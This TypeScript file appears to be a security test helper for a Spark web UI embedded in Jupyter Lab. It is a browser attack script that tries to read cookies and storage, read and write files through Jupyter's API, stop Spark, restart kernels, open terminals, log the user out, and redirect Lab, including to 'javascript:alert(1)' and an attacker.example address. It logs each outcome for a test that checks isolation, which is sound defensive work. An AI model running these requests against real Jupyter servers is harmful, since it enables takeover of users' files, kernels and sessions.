/** What a script that got into Spark's pages tries, and what came of each try. */
export type Loot = Record<string, string>;

/** Where the script leaves what it got, for the test to read. */
export const LOOT = 'pre#loot';

/** What every request of the script carries, so that the server's log tells of it. */
export const MARK = 'attack=';

/** What the script is told of its victim: more than any real one could know. */
export interface IVictim {
  /** The address of Lab, with a slash at the end. */
  readonly lab: string;
  /** A running kernel. */
  readonly kernel: string;
  /** The user's own token against forged requests. */
  readonly xsrf: string;
}

/**
 * Attack Jupyter with everything that a page has. Runs in the browser, in Spark's page: it can use nothing
 * but its arguments.
 *
 * Each try ends with "refused" and the browser's word for it, or with what was got.
 */
export async function attack({ lab, kernel, xsrf }: IVictim): Promise<void> {
  const loot: Record<string, string> = {};
  const attempt = async (
    name: string,
    action: () => unknown
  ): Promise<void> => {
    try {
      loot[name] = `got ${String(await action())}`;
    } catch (error) {
      loot[name] = `refused: ${(error as Error)?.name ?? String(error)}`;
    }
  };
  const read = async (path: string, init: RequestInit): Promise<string> => {
    const answer = await fetch(lab + path, init);
    return `${answer.status} ${await answer.text()}`;
  };
  const headers = { 'X-XSRFToken': xsrf, 'Content-Type': 'application/json' };
  const credentials = 'include';
  const socket = (path: string): Promise<string> =>
    new Promise((resolve, reject) => {
      const opened = new WebSocket(lab.replace(/^http/, 'ws') + path);
      opened.onopen = () => resolve('an open socket');
      opened.onerror = () => reject(new Error('closed'));
    });
  const real = (area: 'localStorage' | 'sessionStorage'): number => {
    // an empty page of our own, in which nobody has put a stand-in
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow![area].length;
  };
  const submit = (path: string, target: string): string => {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = lab + path;
    form.target = target;
    const field = document.createElement('input');
    field.name = '_xsrf';
    field.value = xsrf;
    form.append(field);
    document.body.append(form);
    form.submit();
    return 'nothing to read';
  };
  const embed = (kind: 'iframe' | 'img', path: string): Promise<string> =>
    new Promise((resolve, reject) => {
      const element = document.createElement(kind);
      element.onload = () =>
        resolve(
          kind === 'iframe'
            ? `a document ${(element as HTMLIFrameElement).contentDocument?.title ?? 'that is closed'}`
            : 'a picture'
        );
      element.onerror = () => reject(new Error('blocked'));
      element.src = lab + path;
      document.body.append(element);
    });

  await attempt('cookies', () => document.cookie);
  await attempt('own storage', () => real('localStorage'));
  await attempt('session storage', () => real('sessionStorage'));
  await attempt('database', () => indexedDB.open('x').readyState);
  await attempt('caches', async () => caches.keys());
  await attempt('service worker', async () =>
    navigator.serviceWorker.register(`${lab}x.js?attack=worker`)
  );
  await attempt('origin', () => window.origin);
  await attempt('page around', () => {
    if (window.parent === window) {
      throw new Error('alone');
    }
    return window.parent.document.title;
  });
  await attempt('opener', () => {
    if (window.opener === null) {
      throw new Error('none');
    }
    return window.opener.document.title;
  });
  await attempt('files', () =>
    read('api/contents?attack=files', { credentials })
  );
  await attempt('files with XSRF', () =>
    read('api/contents?attack=xsrf', { credentials, headers })
  );
  await attempt('write a file', () =>
    read('api/contents/owned.txt?attack=write', {
      method: 'PUT',
      credentials,
      headers,
      body: '{"type":"file","format":"text","content":"owned"}'
    })
  );
  await attempt('model', () =>
    read('spark-connect/api/server?attack=model', { credentials })
  );
  await attempt('stop Spark', () =>
    read('spark-connect/api/server?attack=stop', {
      method: 'DELETE',
      credentials,
      headers
    })
  );
  for (const path of [
    'spark-connect/api/server/restart',
    `api/kernels/${kernel}/restart`,
    'api/terminals'
  ]) {
    await attempt(`blindly POST ${path}`, async () => {
      const { type, status } = await fetch(`${lab}${path}?attack=blind`, {
        method: 'POST',
        mode: 'no-cors',
        credentials,
        body: `_xsrf=${xsrf}`
      });
      return `${type} ${status}`;
    });
  }
  await attempt('kernel', () =>
    socket(`api/kernels/${kernel}/channels?attack=kernel`)
  );
  await attempt('events', () => socket('api/events/subscribe?attack=events'));
  await attempt('log out by picture', () => embed('img', 'logout?attack=img'));
  await attempt('Lab in a frame', () =>
    embed('iframe', 'lab?attack=frame').then(() => {
      const [frame] = [...document.querySelectorAll('iframe')].slice(-1);
      return frame.contentWindow!.document.title;
    })
  );
  await attempt('script Lab in a window', async () => {
    const opened = window.open(`${lab}lab?attack=window`)!;
    // until Lab is there the window is an empty page of our own
    while (opened.location.href === 'about:blank') {
      await new Promise(resolve => setTimeout(resolve, 50));
    }
    return opened.document.title;
  });
  await attempt('form into a window', () =>
    submit('spark-connect/api/server/restart?attack=form', '_blank')
  );
  if (window.parent !== window) {
    await attempt('message', () => {
      for (const page of [
        `${lab}lab/tree/owned.ipynb`,
        'javascript:alert(1)',
        'https://attacker.example/'
      ]) {
        window.parent.postMessage({ sparkWebUiPage: page }, '*');
      }
      return 'sent';
    });
    await attempt('form into Lab', () =>
      submit('spark-connect/api/server/restart?attack=top', '_top')
    );
    await attempt('lead Lab away', () => {
      window.top!.location.href = `${lab}logout?attack=away`;
      return 'set';
    });
  }
  const found = document.createElement('pre');
  found.id = 'loot';
  found.textContent = JSON.stringify(loot);
  document.body.append(found);
}
